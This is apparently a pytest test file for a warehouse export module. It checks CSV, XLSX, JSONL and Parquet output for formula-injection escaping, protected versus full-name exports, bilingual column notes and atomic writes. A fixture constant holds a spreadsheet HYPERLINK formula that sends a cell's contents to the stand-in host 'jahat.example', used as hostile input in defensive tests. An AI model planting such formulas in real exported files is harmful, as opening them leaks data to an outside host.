"""Exports: safe to open, whole or not at all, and honest about protection."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest

from tests.warehouse.factory import Story, meeting
from warehouse import export as exporting
from warehouse.database import WarehouseError, open_warehouse
from warehouse.export import export, export_tables, safe_cell
from warehouse.load import load_part
from warehouse.publish import publish
from warehouse.resolve import resolve

# What a hostile page may carry into a name, and a spreadsheet would calculate.
FORMULA = '=HYPERLINK("http://jahat.example/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("exported") / "jejak.duckdb"
    story = Story("jahat", "Rapat koordinasi")
    story.say(f"{FORMULA} dan +62 serta @SUM menggelar rapat bersama Polda NTT.")
    story.agency(FORMULA, FORMULA, "rumus", None)
    story.agency("@SUM", "@SUM(A1)", "jumlah", None)
    story.agency("Polda NTT", "Kepolisian Daerah Nusa Tenggara Timur", "polda-nusa-tenggara-timur", "53")
    story.event("COORD_MEETING", "rapat", None, None, ("organiser", "rumus", None), ("attendee", "jumlah", None))
    story.event("DIALOGUE", FORMULA, "2026-03-02", "53", ("organiser", "polda-nusa-tenggara-timur", None))
    suspect = Story("tersangka").say("Rofinus Taolin ditangkap.").person("Rofinus Taolin", "suspect")
    con = open_warehouse(path)
    load_part(con, "part", [story.record(), meeting().record(), suspect.record()])
    resolve(con)
    con.close()
    publish(path, path.with_name("published.duckdb"))
    return path.parent


@pytest.fixture
def snapshot(made: Path, path: Path) -> Path:
    """A snapshot with the warehouse it was made from beside it, at ``path``."""
    shutil.copytree(made, path.parent, dirs_exist_ok=True)
    return path.with_name("published.duckdb")


def cells(out: Path) -> Iterator[tuple[str, Any]]:
    """Each cell of an export with its column, read by a program that is not ours."""
    if out.suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as file:
            for record in csv.DictReader(file):
                yield from record.items()
    elif out.suffix == ".jsonl":
        for line in out.read_text(encoding="utf-8").splitlines():
            yield from json.loads(line).items()
    else:
        book = openpyxl.load_workbook(out)
        head, *rows = book.worksheets[0].iter_rows()
        for row in rows:
            for name, cell in zip(head, row, strict=True):
                assert cell.data_type != "f", cell.value
                yield name.value, cell.value
        book.close()


@pytest.mark.parametrize("format", ["csv", "xlsx", "jsonl"])
def test_no_cell_can_be_read_as_a_formula(snapshot: Path, tmp_path: Path, format: str) -> None:
    found = []
    for what in export_tables():
        out = tmp_path / f"{what}.{format}"
        export(snapshot, what, format, out)  # type: ignore[arg-type]
        found += [(name, value) for name, value in cells(out) if isinstance(value, str)]
    assert ("agency_name", "'" + FORMULA) in found
    assert ("agency_name", "'@SUM(A1)") in found
    assert [value for _, value in found if value.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A", "\t=1", "\r=1", "\n=1", "  =1", "\x00=1", "＝1", "\x1b@A"])
def test_a_dangerous_start_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["Polda NTT", "a=b", "2026-03-02", "(+62)", "'", ""])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_a_cell_with_a_semicolon_stays_one_cell_where_that_separates_lists(snapshot: Path, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    export(snapshot, "events", "csv", out)
    with out.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file, delimiter=";"):
            assert not any(cell.startswith(("=", "@")) for cell in row)


def test_every_format_has_the_same_rows(snapshot: Path, tmp_path: Path) -> None:
    for what in export_tables():
        rows = {format: export(snapshot, what, format, tmp_path / f"x.{format}") for format in exporting._WRITERS}  # type: ignore[arg-type]
        assert len(set(rows.values())) == 1
        assert pq.read_table(tmp_path / "x.parquet").num_rows == rows["csv"] > 0
        assert len(list(cells(tmp_path / "x.csv"))) == len(list(cells(tmp_path / "x.jsonl")))


def test_csv_begins_with_a_byte_order_mark_for_spreadsheets(snapshot: Path, tmp_path: Path) -> None:
    export(snapshot, "persons", "csv", tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("what", ["persons", "agencies", "places", "events"])
def test_every_column_is_explained_in_two_languages(snapshot: Path, tmp_path: Path, what: str) -> None:
    con = open_warehouse(snapshot, read_only=True)
    names = con.execute(export_tables()[what].sql).to_arrow_table().column_names
    con.close()
    explained = export_tables()[what].columns
    assert [column.name for column in explained] == names
    assert all(column.meaning_en and column.meaning_id for column in explained)
    export(snapshot, what, "xlsx", tmp_path / "x.xlsx")  # type: ignore[arg-type]
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    read = {row[0].value: (row[1].value, row[2].value) for row in book["Baca saya - Read me"].iter_rows()}
    book.close()
    for column in explained:
        assert read[column.name] == (column.meaning_id, column.meaning_en)


def test_events_are_flattened_readably(snapshot: Path, tmp_path: Path) -> None:
    export(snapshot, "events", "jsonl", tmp_path / "x.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    event = next(row for row in rows if row["place_name"] == "Kota Kupang")
    assert event["participants"] == (
        "attendee: BP3MI Nusa Tenggara Timur (Yohanes Bria); organiser: Kepolisian Daerah Nusa Tenggara Timur"
    )
    assert event["evidence"].startswith("Polda NTT menggelar rapat koordinasi")
    assert event["start_date"] == "2026-03-02"
    assert event["urls"] == meeting().url


def test_an_export_without_protection_is_recorded_with_its_reason(snapshot: Path, path: Path, tmp_path: Path) -> None:
    out = tmp_path / "lengkap.csv"
    with pytest.raises(WarehouseError, match="needs a reason, which is recorded"):
        export(path, "persons", "csv", out, protected=False, reason="  ")
    assert not out.exists()
    rows = export(path, "persons", "csv", out, protected=False, reason="Permintaan LPSK 12/2026")
    assert "Rofinus Taolin" in out.read_text(encoding="utf-8-sig")
    con = open_warehouse(path, read_only=True)
    assert con.execute(
        "SELECT what_name, format_name, out_name, row_count, reason FROM pipeline.exports"
    ).fetchall() == [("persons", "csv", str(out), rows, "Permintaan LPSK 12/2026")]
    con.close()
    export(path, "persons", "xlsx", tmp_path / "x.xlsx", protected=False, reason="Permintaan LPSK 12/2026")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert book["Baca saya - Read me"]["B1"].value == "Berkas ini memuat nama lengkap; jangan dibagikan."
    book.close()


def test_a_protected_export_never_reads_the_warehouse_itself(snapshot: Path, path: Path, tmp_path: Path) -> None:
    with pytest.raises(WarehouseError, match="this is the warehouse with full names; export from the"):
        export(path, "persons", "csv", tmp_path / "x.csv")
    with pytest.raises(WarehouseError, match="this is the published snapshot, which has no full names"):
        export(snapshot, "persons", "csv", tmp_path / "x.csv", protected=False, reason="uji")
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize(
    ("arguments", "complaint"),
    [
        ({"what": "victims"}, "there is no export named 'victims'; choose one of persons, agencies, places, events"),
        ({"format": "docx"}, "there is no export format 'docx'; choose one of csv, xlsx, parquet, jsonl"),
        ({"out": "."}, "this is a folder; name a file in it"),
        ({"out": "file/x.csv"}, "the file cannot be written"),
        ({"path": "nowhere.duckdb"}, "there is no such database yet"),
    ],
)
def test_what_cannot_be_exported_is_said(
    snapshot: Path, tmp_path: Path, arguments: dict[str, str], complaint: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file").write_text("")
    asked: dict[str, Any] = {"path": snapshot, "what": "persons", "format": "csv", "out": "x.csv"} | arguments
    with pytest.raises(WarehouseError, match=complaint):
        export(**asked)


def test_an_export_broken_off_leaves_the_old_file(
    snapshot: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "x.jsonl"
    out.write_text("the old one")

    def fail(*rest: object) -> None:
        Path(str(rest[0])).write_text("half")
        raise MemoryError

    monkeypatch.setitem(exporting._WRITERS, "jsonl", fail)
    with pytest.raises(MemoryError):
        export(snapshot, "persons", "jsonl", out)
    assert out.read_text() == "the old one"
    assert not list(tmp_path.glob(".x*"))


def test_text_longer_than_a_cell_is_cut_in_a_sheet_only(snapshot: Path, path: Path, tmp_path: Path) -> None:
    con = open_warehouse(path)
    con.execute("UPDATE event_reports SET evidence = repeat('rapat ', 10000)")
    con.close()
    publish(path, snapshot)
    for format in ("xlsx", "jsonl"):
        export(snapshot, "events", format, tmp_path / f"x.{format}")  # type: ignore[arg-type]
    assert max(len(str(value)) for _, value in cells(tmp_path / "x.xlsx")) == 32_767
    assert max(len(str(value)) for _, value in cells(tmp_path / "x.jsonl")) == 60_000


def test_parquet_carries_the_meaning_of_its_columns(snapshot: Path, tmp_path: Path) -> None:
    export(snapshot, "places", "parquet", tmp_path / "x.parquet")
    schema = pq.read_schema(tmp_path / "x.parquet")
    assert schema.field("latitude").metadata[b"meaning_id"] == b"Lintang"
    assert duckdb.execute(f"SELECT count(*) FROM '{tmp_path}/x.parquet'").fetchone() == (1,)
